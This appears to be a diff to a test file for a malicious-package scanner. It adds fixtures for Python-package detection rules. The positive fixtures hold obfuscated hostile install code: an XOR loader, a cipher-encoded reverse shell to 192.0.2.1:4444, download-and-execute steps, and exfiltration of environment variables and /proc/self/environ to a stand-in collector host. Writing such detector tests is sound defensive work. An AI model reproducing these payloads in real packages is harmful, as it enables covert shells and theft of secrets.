@@ -4,6 +4,16 @@ import { PYTHON_RULE_METAS } from '../../src/analyzers/python/index.js';
 import { findingsOf, makeWheel, rulesOf, scanDist, scanSdist } from './helpers.js';
 
 const b64 = (s: string) => Buffer.from(s).toString('base64');
+const XOR_KEY = '4915';
+/** XOR of each character with a repeating key (what XOR-loop loaders undo). */
+const xor = (s: string, key: string) =>
+  [...s].map((c, i) => String.fromCharCode(c.charCodeAt(0) ^ key.charCodeAt(i % key.length))).join('');
+/** The reversed-alphabet substitution (`ascii_letters[::-1]`) used by some droppers. */
+const subst = (s: string) => {
+  const a = 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ';
+  const r = [...a].reverse().join('');
+  return [...s].map((c) => (a.includes(c) ? r[a.indexOf(c)] : c)).join('');
+};
 const SETUP = 'from setuptools import setup\nsetup(name="fixture-py", version="1.0.0")\n';
 
 interface Case {
@@ -74,6 +84,84 @@ const CASES: Case[] = [
       'setup.py': `import base64, subprocess\nwith open('/tmp/a.py', 'w') as f:\n    f.write(base64.b64decode('${b64('import socket\n')}').decode())\nsubprocess.Popen(['python3', '/tmp/a.py'])\n${SETUP}`,
     },
     negative: { 'setup.py': `with open('/tmp/a.txt', 'w') as f:\n    f.write('hello')\n${SETUP}` },
+  },
+  {
+    // a character-level XOR loop (pywool-style loaders): the loop is run on folded values
+    rule: 'PY-001',
+    positive: {
+      'setup.py': `k = '${XOR_KEY}'\ns = ${JSON.stringify(xor("import os\nos.system('id')\n", XOR_KEY))}\nout = ''\nfor i in range(len(s)):\n    c = s[i]\n    out += chr(ord(c) ^ ord(k[i % len(k)]))\nexec(compile(out, '<string>', 'exec'))\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `k = '${XOR_KEY}'\ns = 'abc'\nout = ''\nfor i in range(len(s)):\n    out += chr(ord(s[i]) ^ ord(k[i % len(k)]))\nprint(out)\n${SETUP}`,
+    },
+    check: (r) => {
+      expect(
+        findingsOf(r, 'PY-001').some((f) => String(f.evidence?.decoded).includes("os.system('id')")),
+      ).toBe(true);
+      expect(r.verdict).toBe('malicious');
+    },
+  },
+  {
+    // a substitution cipher in a comprehension, decoded and analysed as code
+    rule: 'PY-010',
+    positive: {
+      'fixture_py/__init__.py': `import string\na = string.ascii_letters\nr = a[::-1]\nexec("".join([r[a.index(c)] if c in r else c for c in ${JSON.stringify(subst("import socket,os,pty;s=socket.socket();s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0);pty.spawn('/bin/sh')"))}]))\n`,
+    },
+    negative: {
+      'fixture_py/__init__.py': `import string\na = string.ascii_letters\nr = a[::-1]\nprint("".join([r[a.index(c)] if c in r else c for c in "hello"]))\n`,
+    },
+  },
+  {
+    // `with NamedTemporaryFile(...) as tmp`, `path = tmp.name`, then run
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import requests, tempfile, subprocess\nresponse = requests.get('https://example.invalid/w.bin')\nwith tempfile.NamedTemporaryFile(delete=False) as tmp_file:\n    tmp_file.write(response.content)\n    exe_path = tmp_file.name\nsubprocess.call([exe_path])\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import requests, tempfile, subprocess\nresponse = requests.get('https://example.invalid/w.json')\nwith tempfile.NamedTemporaryFile(delete=False) as tmp_file:\n    tmp_file.write(response.content)\nsubprocess.call(['make'])\n${SETUP}`,
+    },
+  },
+  {
+    // the file is run by its base name after `cd`, and made executable first
+    rule: 'PY-005',
+    positive: {
+      'setup.py': `import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://example.invalid/a').content)\nsystem('cd /tmp && chmod +x agent && ./agent')\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import requests\nfrom os import system\nopen('/tmp/agent', 'wb').write(requests.get('https://example.invalid/a').content)\nsystem('make install')\n${SETUP}`,
+    },
+  },
+  {
+    // the output of recon commands sent at install time
+    rule: 'PY-008',
+    positive: {
+      'setup.py': `import os, urllib.request\nuser = os.popen('whoami').read()\nhost = os.popen('hostname').read()\nurllib.request.urlopen('https://collector.example.invalid/?' + user + host)\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import os, urllib.request\nrev = os.popen('git rev-parse HEAD').read()\nurllib.request.urlopen('https://example.invalid/?' + rev)\n${SETUP}`,
+    },
+  },
+  {
+    // environment collected into a dict and sent with curl run as a process
+    rule: 'PY-008',
+    positive: {
+      'setup.py': `import os, base64, subprocess\nenvirons = {}\nfor name, value in os.environ.items():\n    environs[name] = value\ndata = base64.b64encode(str(environs).encode()).decode()\nsubprocess.check_output(['curl', f'https://collector.example.invalid/?e={data}'])\n${SETUP}`,
+    },
+    negative: {
+      'setup.py': `import subprocess\nsubprocess.check_output(['curl', '-fsSL', 'https://example.invalid/dep.tar.gz', '-o', 'dep.tar.gz'])\n${SETUP}`,
+    },
+  },
+  {
+    // an instance attribute carries /proc/self/environ to the request
+    rule: 'PY-008',
+    positive: {
+      'fixture_py/__init__.py':
+        "import urllib.request\nclass Hook:\n    def __init__(self):\n        self.e = open('/proc/self/environ').read()\n    def send(self):\n        urllib.request.urlopen('https://collector.example.invalid/', data=self.e.encode())\nHook().send()\n",
+    },
+    negative: {
+      'fixture_py/__init__.py':
+        'import socket\ndef local_ip():\n    return socket.gethostbyname(socket.gethostname())\n',
+    },
   },
   {
     rule: 'PY-006',
